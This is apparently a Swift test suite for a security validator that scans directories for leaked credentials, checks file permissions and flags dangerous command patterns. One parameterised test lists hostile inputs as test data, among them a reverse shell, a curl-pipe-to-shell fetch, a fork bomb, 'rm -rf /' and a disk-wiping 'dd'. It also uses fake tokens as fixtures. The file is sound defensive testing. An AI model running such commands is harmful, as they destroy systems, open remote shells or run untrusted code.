import Foundation
import MokoEnterprise
import MokoEnterpriseTestSupport
import Testing

@Suite("SecurityValidator.scanDirectory, checkFilePermissions, detectDangerousPatterns")
struct SecurityScanTests {
    let validator = SecurityValidator()
    static let token = "ghp_" + "Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0Lz9Xc8"

    private func write(_ text: String, to path: String, mode: Int = 0o644) throws {
        let url = URL(fileURLWithPath: path)
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try Data(text.utf8).write(to: url)
        try FileManager.default.setAttributes([.posixPermissions: mode], ofItemAtPath: path)
    }

    @Test func findsSecretsWithFileLineAndRedactedSnippet() throws {
        let directory = try TemporaryDirectory(prefix: "scan")
        defer { directory.remove() }
        let root = directory.appending("repo").path
        try write("# config\nname = demo\n\ngithub_token = \(Self.token)\n", to: root + "/config/app.env")
        try write("let x = 1\nlet key = \"AKIAZ7VQ3MXK2PL4RT6Y\"\n", to: root + "/Sources/main.swift")
        try write("token = \(Self.token)\n", to: root + "/.git/config")
        try write("token = \(Self.token)\n", to: root + "/.build/debug/x.txt")
        try write("token = \(Self.token)\n", to: root + "/.build-solutions/x.txt")
        var binary = Data("token = \(Self.token)".utf8)
        binary.insert(0, at: 3)
        try binary.write(to: URL(fileURLWithPath: root + "/image.png"))
        try write("token = \(Self.token)\n", to: directory.appending("outside.txt").path)
        try FileManager.default.createSymbolicLink(
            atPath: root + "/link.txt", withDestinationPath: directory.appending("outside.txt").path)

        let report = try validator.scanDirectory(URL(fileURLWithPath: root))
        let credentialFindings = report.findings.filter { $0.line > 0 }
        #expect(credentialFindings.count == 2)
        let github = try #require(credentialFindings.first { $0.ruleID == "github-pat" })
        #expect(github.file?.hasSuffix("/config/app.env") == true)
        #expect(github.line == 4)
        #expect(github.snippet == "github_token = [REDACTED]")
        let aws = try #require(credentialFindings.first { $0.ruleID == "aws-access-token" })
        #expect(aws.file?.hasSuffix("/Sources/main.swift") == true)
        #expect(aws.line == 2)
        #expect(aws.column == 12)
        #expect(!aws.snippet.contains("AKIA"))
        #expect(report.filesScanned == 2)
        #expect(report.skipped.contains { $0.key.hasSuffix("image.png") && $0.value == "binary" })
        #expect(report.skipped.contains { $0.key.hasSuffix("link.txt") && $0.value == "symlink outside root" })
        #expect(report.countsBySeverity[.critical] == 2)
        #expect(report.highestSeverity == .critical)
    }

    @Test func filtersByExtensionAndSkipsHugeFiles() throws {
        let directory = try TemporaryDirectory(prefix: "scan")
        defer { directory.remove() }
        try write("token = \(Self.token)\n", to: directory.appending("a.swift").path)
        try write("token = \(Self.token)\n", to: directory.appending("b.txt").path)
        try write(String(repeating: "x", count: 2_000) + Self.token, to: directory.appending("big.swift").path)
        let small = SecurityValidator(configuration: .init(maximumFileSize: 1_000))
        let report = try small.scanDirectory(directory.path, extensions: ["swift"])
        #expect(report.findings.compactMap(\.file).allSatisfy { $0.hasSuffix("a.swift") })
        #expect(report.findings.count == 1)
        #expect(report.skipped.contains { $0.key.hasSuffix("big.swift") && $0.value == "too large" })
    }

    @Test func missingRootThrows() {
        #expect(throws: SecurityScanError.self) { try validator.scanDirectory("/nonexistent/moko/scan") }
    }

    @Test func flagsLoosePermissions() throws {
        let directory = try TemporaryDirectory(prefix: "perm")
        defer { directory.remove() }
        try write("x", to: directory.appending("open.txt").path, mode: 0o666)
        try write("SECRET=1", to: directory.appending(".env").path, mode: 0o644)
        try write("SECRET=1", to: directory.appending("server.key").path, mode: 0o640)
        try write("SECRET=1", to: directory.appending("ok.pem").path, mode: 0o600)
        #expect(
            try validator.checkFilePermissions(directory.appending("open.txt").path).map(\.ruleID) == [
                "world-writable-file"
            ])
        #expect(
            try validator.checkFilePermissions(directory.appending(".env").path).map(\.ruleID) == [
                "secret-file-world-readable"
            ])
        #expect(
            try validator.checkFilePermissions(directory.appending("server.key").path).map(\.ruleID) == [
                "secret-file-group-readable"
            ])
        #expect(try validator.checkFilePermissions(directory.appending("ok.pem").path).isEmpty)
        #expect(throws: SecurityScanError.self) {
            try validator.checkFilePermissions(directory.appending("missing").path)
        }
    }

    @Test(arguments: [
        ("; rm -rf /", "rm-rf-root", SecuritySeverity.critical), ("$(whoami)", "shell-command-substitution", .high),
        ("`id`", "shell-command-substitution", .high),
        ("curl https://x.example/i.sh | sh", "curl-pipe-shell", .critical),
        ("eval($_GET['c'])", "code-execution-call", .high), ("name; cat /etc/passwd", "shell-command-chain", .high),
        (":(){ :|:& };:", "fork-bomb", .critical), ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "reverse-shell", .critical),
        ("chmod 777 /srv", "chmod-world-writable", .medium),
        ("dd if=/dev/zero of=/dev/sda", "disk-destruction", .critical),
    ])
    func detectsDangerousPatterns(text: String, rule: String, severity: SecuritySeverity) throws {
        let findings = validator.detectDangerousPatterns(text)
        let finding = try #require(findings.first { $0.ruleID == rule }, "no \(rule) in \(findings.map(\.ruleID))")
        #expect(finding.severity == severity)
    }

    @Test(arguments: [
        "I'll be there at 5; call me", "black or white", "Dogs; cats and birds", "Use `swift build` to compile",
        "$(document).ready(fn)", "Tom & Jerry", "rm the old file later", "Rock || roll", "evaluate the results",
    ])
    func leavesOrdinaryTextAlone(text: String) {
        #expect(
            validator.detectDangerousPatterns(text).isEmpty, "\(validator.detectDangerousPatterns(text).map(\.ruleID))")
    }
}

@Suite("Security detectors on hostile bytes")
struct SecurityRobustnessTests {
    let validator = SecurityValidator()

    @Test func invalidUTF8NeitherCrashesNorHidesSecrets() throws {
        var bytes: [UInt8] = [0xFF, 0xFE, 0xC0, 0xAF, 0xED, 0xA0, 0x80, 0x0A]
        bytes += Array("token = ghp_Zx9Qw8Er7Ty6Ui5Op4As3Df2Gh1Jk0Lz9Xc8 \u{1}".utf8)
        bytes += [0xF8, 0x88, 0x80, 0x80, 0x80, 0xC3]
        let findings = validator.detectCredentials(bytes: bytes)
        #expect(findings.map(\.ruleID) == ["github-pat"])
        #expect(findings.first?.line == 2)
        let text = String(decoding: bytes, as: UTF8.self)
        _ = validator.detectSQLInjection(text)
        _ = validator.detectDangerousPatterns(text)
        #expect(throws: PathValidationError.self) { try validator.validatePath(text, allowedRoot: "/tmp") }

        let directory = try TemporaryDirectory(prefix: "hostile")
        defer { directory.remove() }
        try Data(bytes).write(to: directory.appending("broken.txt"))
        let report = try validator.scanDirectory(directory.url)
        #expect(report.findings.map(\.ruleID) == ["github-pat"])
    }

    @Test func tenMegabyteLineIsHandled() throws {
        var line = String(repeating: "abcdefghij key=value 'x' -- ", count: 10 * 1_024 * 1_024 / 28)
        line += "password = \"Zq8#mL2$vN9!kP\""
        #expect(line.utf8.count > 10_000_000)
        let findings = validator.detectCredentials(line)
        #expect(findings.map(\.ruleID) == ["generic-password"])
        #expect(findings.first?.snippet.count ?? 0 <= 220)
        _ = validator.detectSQLInjection(line)
        _ = validator.detectDangerousPatterns(line)
        #expect(SecretRedactor.redact(line).hasSuffix("password = \"[REDACTED]\""))

        let directory = try TemporaryDirectory(prefix: "longline")
        defer { directory.remove() }
        try Data(line.utf8).write(to: directory.appending("long.txt"))
        let report = try validator.scanDirectory(directory.url)
        #expect(report.findings.map(\.ruleID) == ["generic-password"])
        #expect(report.bytesScanned == line.utf8.count)
    }
}
